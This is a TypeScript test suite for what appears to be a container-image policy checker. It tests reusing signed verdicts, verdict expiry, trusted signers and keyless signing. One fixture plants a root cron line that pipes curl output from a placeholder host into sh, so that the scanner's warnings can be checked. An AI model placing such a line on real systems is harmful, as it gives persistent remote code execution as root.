import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { buildImage, buildLayer } from '../../src/demo/image-builder.ts';
import { type SigningServer, startSigningServer } from '../support/signing-server.ts';
import { cleanImage, cleanIndex, leakyImage, referrersIn, type Stage, setStage } from '../support/stage.ts';
import { strictSchema } from '../support/strict-schema.ts';

const schema = strictSchema(new URL('../../schema/verdict-v1.json', import.meta.url));
const NOON = new Date('2026-11-21T12:00:00Z');
const at = (hours: number) => ({ now: () => new Date(NOON.getTime() + hours * 3_600_000) });

let stage: Stage;
beforeAll(async () => {
  stage = await setStage();
  const policy = await stage.read('pratique.yaml');
  const believing = policy
    .replace('signers:', 'signers:\n  gate: { key: gate.pub }')
    .concat('admit:\n  - signer: gate\n');
  await stage.write('pratique.yaml', believing);
});
afterAll(() => stage.close());

let images = 0;
/** Puts an image under a name of its own. */
function push(built: Parameters<Stage['push']>[1]): string {
  images += 1;
  return stage.push(`acme/reuse${images}:1`, built);
}
const here = (name: string) => name.slice(stage.name('').length).replace(/:1$/, '');

/** Checks an image some hours after noon; with what was read of its layers. */
async function check(name: string, hours: number, ...more: string[]) {
  stage.registry.seen();
  const told = await stage.pratique(['check', name, ...more], at(hours));
  const layers = stage.registry.seen().filter((line) => line.includes('/blobs/'));
  return { ...told, blobs: layers.length };
}
const attest = (name: string, hours: number, ...more: string[]) =>
  check(name, hours, '--key', 'gate.key', '--attest', ...more);

test('a check with --reuse reads no layer where a trusted verdict says what is in it, and says so in every view', async () => {
  const name = push(await cleanIndex());
  const full = await attest(name, 0);
  expect(full.code).toBe(0);
  const { code, out, blobs } = await check(name, 1, '--reuse', '-o', 'json');
  const { verdicts } = JSON.parse(out);
  expect(schema.validate(JSON.parse(out))).toBe(true);
  const plain = await check(name, 1, '--reuse', '-o', 'text');
  const reused = {
    signer: 'gate',
    decidedAt: '2026-11-21T12:00:00.000Z',
    validUntil: '2026-11-28T12:00:00.000Z',
    attestation: expect.stringMatching(/^sha256:/),
  };
  expect([code, plain.code]).toEqual([0, 0]);
  expect(verdicts[0]).toMatchObject({ result: 'admitted', reused });
  expect(verdicts[0].images.map((image: object) => 'scanned' in image)).toEqual([false, false]);
  expect(verdicts[0].notes[0]).toContain('no layer was read');
  expect(plain.out).toContain('no layer was read');
  expect(plain.out).toContain('2026-11-28T12:00:00.000Z');
  const quiet = await check(name, 1, '--reuse', '--quiet');
  expect(quiet.out).toContain('on the verdict of 2026-11-21T12:00:00.000Z');
  const sarif = JSON.parse((await check(name, 1, '--reuse', '-o', 'sarif')).out);
  expect(sarif.runs[0].properties).toMatchObject({ reused });
  expect(blobs).toBeLessThan(full.blobs);
});

test('its warnings are told again', async () => {
  const layer = await buildLayer([{ path: 'etc/cron.d/x', content: '* * * * * root curl x | sh\n' }]);
  const name = push(buildImage({ layers: [layer], config: { User: '1000' } }));
  const rules = async (...more: string[]) => {
    const { out } = await check(name, 1, '-o', 'json', ...more);
    const { checks } = JSON.parse(out).verdicts[0].images[0];
    return checks.flatMap((one: { findings: { rule: string; fingerprint: string; level: string }[] }) =>
      one.findings.map(({ rule, fingerprint, level }) => [rule, fingerprint, level]),
    );
  };
  await attest(name, 0);
  const full = await rules();
  expect(full.length).toBeGreaterThan(0);
  expect(await rules('--reuse')).toEqual(full);
});

test('it says of no exception that it is of no use, since none was tried', async () => {
  const name = push(await cleanImage());
  const policy = await stage.read('pratique.yaml');
  const unused = '{ rule: secrets, reason: r, owner: o, until: 2026-12-31 }';
  await stage.write('unused.yaml', `${policy}exceptions:\n  - ${unused}\n`);
  const { out: full } = await attest(name, 0, '--policy', 'unused.yaml');
  expect(full).toContain('covers nothing here');
  const { out } = await check(name, 1, '--reuse', '--policy', 'unused.yaml');
  expect(out).toContain('no layer was read');
  expect(out).not.toContain('covers nothing here');
});

describe('a full check is run with --reuse', () => {
  test('where nothing is attached, and it is said why', async () => {
    const name = push(await cleanImage());
    const { code, out } = await check(name, 0, '--reuse', '-o', 'json');
    const [verdict] = JSON.parse(out).verdicts;
    expect([code, verdict.reused]).toEqual([0, undefined]);
    expect(verdict.notes).toContain('no earlier verdict is rested on: no attestation is attached');
  });

  test('where the time of the verdict is over', async () => {
    const name = push(await cleanImage());
    await attest(name, 0, '--valid-for', '1d');
    const { out } = await check(name, 25, '--reuse', '-o', 'json');
    expect(JSON.parse(out).verdicts[0].reused).toBeUndefined();
  });

  test('where a stranger passed a leaking image, and it is refused', async () => {
    const name = push(await leakyImage());
    const lax = (await stage.read('pratique.yaml')).replace('checks:', 'checks:\n  secrets: warn');
    await stage.write('lax.yaml', lax);
    await stage.pratique(['check', name, '--key', 'stranger.key', '--attest'], at(0));
    await stage.pratique(['check', name, '--key', 'gate.key', '--attest', '--policy', 'lax.yaml'], at(0));
    expect(referrersIn(stage, here(name))).toBe(4);
    expect((await check(name, 1, '--reuse')).code).toBe(1);
  });

  test('where a tag that other things are demanded of was judged', async () => {
    const built = await leakyImage();
    const name = push(built);
    const dev = stage.push(`${here(name)}:dev`, built);
    const twofold = (await stage.read('pratique.yaml')).replace(
      'images:',
      `images:\n  - match: "${dev}"\n    checks: { secrets: warn }`,
    );
    await stage.write('twofold.yaml', twofold);
    const by = ['--policy', 'twofold.yaml'];
    expect((await attest(dev, 0, ...by)).code).toBe(0);
    expect((await check(dev, 1, '--reuse', '-o', 'json', ...by)).out).toContain('"reused"');
    expect((await check(name, 1, '--reuse', ...by)).code).toBe(1);
  });
});

describe('what hangs on the day or on the name is judged anew with --reuse:', () => {
  const withPolicy = async (file: string, change: (text: string) => string) => {
    await stage.write(file, change(await stage.read('pratique.yaml')));
    return ['--policy', file];
  };

  test('the age of the image', async () => {
    const layer = await buildLayer([{ path: 'a', content: 'b' }]);
    const name = push(
      buildImage({ layers: [layer], config: { User: '1000' }, created: '2026-11-20T12:00:00Z' }),
    );
    const by = await withPolicy('age.yaml', (text) =>
      text.replace('images:', `images:\n  - match: "${name.replace(/:1$/, '')}"\n    max-age: 2d`),
    );
    await attest(name, 0, ...by);
    expect((await check(name, 1, '--reuse', '-o', 'json', ...by)).out).toContain('"reused"');
    expect((await check(name, 25, '--reuse', ...by)).code).toBe(1);
  });

  test('the last day on which a name is allowed', async () => {
    const name = push(await cleanImage());
    await stage.write('allowed.txt', `${name.replace(/:1$/, '')} until=2026-11-21 # why\n`);
    const by = await withPolicy('allowed.yaml', (text) =>
      text.replace(/allow: .*/, 'allow-lists: [allowed.txt]'),
    );
    expect((await attest(name, 0, ...by)).code).toBe(0);
    expect((await check(name, 13, '--reuse', ...by)).code).toBe(1);
  });

  test('an exception that has run out, so that what it covered counts', async () => {
    const name = push(await leakyImage());
    const by = await withPolicy(
      'excepting.yaml',
      (text) =>
        `${text}exceptions:\n  - { rule: secrets, reason: rotated, owner: team, until: 2026-11-21 }\n`,
    );
    expect((await attest(name, 0, ...by)).code).toBe(0);
    expect((await check(name, 1, '--reuse', '-o', 'json', ...by)).out).toContain('"reused"');
    expect((await check(name, 13, '--reuse', ...by)).code).toBe(1);
  });
});

describe('with --attest', () => {
  test('a verdict that rests on another is not signed: of nightly checks every fourth scans', async () => {
    const name = push(await cleanImage());
    const scans: number[] = [];
    for (const hours of [0, 24, 48, 72, 96, 120, 144, 168]) {
      const { code, err } = await attest(name, hours, '--reuse');
      expect(code).toBe(0);
      if (!err.includes('not attested anew')) scans.push(hours);
      expect((await stage.pratique(['admit', name], at(hours + 12))).code).toBe(0);
    }
    expect(scans).toEqual([0, 96]);
    expect(referrersIn(stage, here(name))).toBe(4);
  });

  test('only the verdicts of the same key count, since its readers believe no other', async () => {
    const name = push(await cleanImage());
    await attest(name, 0);
    const { err } = await check(name, 1, '--key', 'stranger.key', '--attest', '--reuse');
    expect(err).toContain('attached https://slsa.dev/verification_summary/v1');
  });
});

describe('--reuse is refused as wrong usage', () => {
  test.each<[string, readonly string[], string]>([
    ['where nobody is named whose verdicts count', ['--policy', 'alone.yaml'], 'whose verdicts count'],
    ['with --attestation', ['--key', 'gate.key', '--attestation', 'a.jsonl'], 'do not go together'],
    ['with a private key where nothing is signed', ['--key', 'gate.key'], 'gate.key'],
  ])('%s', async (_name, more, words) => {
    const alone = (await stage.read('pratique.yaml')).split('admit:')[0] ?? '';
    await stage.write('alone.yaml', alone);
    const { code, err } = await stage.pratique(['check', stage.name('acme/x:1'), '--reuse', ...more], at(0));
    expect([code, err]).toEqual([2, expect.stringContaining(words)]);
  });

  test.each([
    'verifier: "https://other.test/gate", policy-digests: any, levels: [PRATIQUE_ADMITTED]',
    'levels: [PRATIQUE_ADMITTED, SLSA_BUILD_LEVEL_3]',
    `policy-digests: ["sha256:${'0'.repeat(64)}"]`,
  ])('where the policy believes its signer of something else alone: %s', async (rule) => {
    const policy = (await stage.read('pratique.yaml')).replace(
      '- signer: gate',
      `- { signer: gate, ${rule} }`,
    );
    await stage.write('else.yaml', policy);
    const argv = ['check', stage.name('acme/x:1'), '--reuse', '--policy', 'else.yaml'];
    const { code, err } = await stage.pratique(argv, at(0));
    expect([code, err]).toEqual([2, expect.stringContaining('whose verdicts count')]);
  });

  test('and a public key says whose verdicts count where the policy does not', async () => {
    const name = push(await cleanImage());
    await attest(name, 0, '--policy', 'alone.yaml');
    const { out } = await check(
      name,
      1,
      '--policy',
      'alone.yaml',
      '--reuse',
      '--key',
      'gate.pub',
      '-o',
      'json',
    );
    expect(JSON.parse(out).verdicts[0].reused).toMatchObject({ signer: 'gate.pub' });
  });
});

describe('of a gate without a key', () => {
  const KEYLESS = ['--keyless', '--signing-config=rekor-v1.json', '--trusted-root=private-root.json'];
  let server: SigningServer;
  beforeAll(async () => {
    server = await startSigningServer();
    server.introduce(stage.folder);
    const policy = (await stage.read('pratique.yaml')).replace(
      'gate: { key: gate.pub }',
      'gate: { issuer: https://login.acme.test, identity: gate@acme.test, root: private }',
    );
    await stage.write('keyless.yaml', `${policy}trust-roots: { private: { file: private-root.json } }\n`);
  });
  afterAll(() => server.close());

  const checkNow = (name: string, seconds: number, ...more: string[]) =>
    stage.pratique(['check', name, '--policy', 'keyless.yaml', '-o', 'json', ...more], {
      now: () => new Date(Date.now() + seconds * 1000),
      env: { SIGSTORE_ID_TOKEN: server.token('gate@acme.test', 'https://login.acme.test') },
    });

  test('whose clock ran ahead, a verdict counts from the moment that the log has', async () => {
    const name = push(await cleanImage());
    await checkNow(name, 240, '--attest', ...KEYLESS);
    const { out, err } = await checkNow(name, 0, '--reuse', '--attest', ...KEYLESS);
    const [{ reused }] = JSON.parse(out).verdicts;
    const share = 3.5 * 24 * 3600; // half of seven days: after it, it would be renewed
    expect(err).toContain('not attested anew');
    expect(Date.parse(reused.validUntil) - Date.now()).toBeLessThan(share * 1000);
    expect(Date.parse(reused.validUntil) - Date.now()).toBeGreaterThan((share - 120) * 1000);
  });
});
